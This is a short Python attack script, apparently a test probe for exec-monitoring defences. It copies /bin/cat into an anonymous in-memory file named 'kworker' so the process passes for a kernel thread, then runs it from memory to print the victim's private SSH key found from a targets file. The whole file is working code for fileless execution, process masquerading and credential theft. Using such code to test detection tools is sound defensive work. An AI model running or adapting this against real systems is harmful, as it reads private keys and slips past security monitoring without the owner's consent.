# exec-bypass: run a program that exists nowhere on disk: copy /bin/cat
# into an anonymous memfd and execute it (os.execve on the fd, in a child)
# on the victim's SSH key.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

mem = os.memfd_create("kworker")
with open("/bin/cat", "rb") as f:
    os.write(mem, f.read())
key = os.path.join(T["T_HOME"], ".ssh", "id_rsa")
sys.stdout.flush()
pid = os.fork()
if pid == 0:
    try:
        os.execve(mem, ["kworker", key], os.environ)
    finally:
        os._exit(127)
os.waitpid(pid, 0)
os.close(mem)
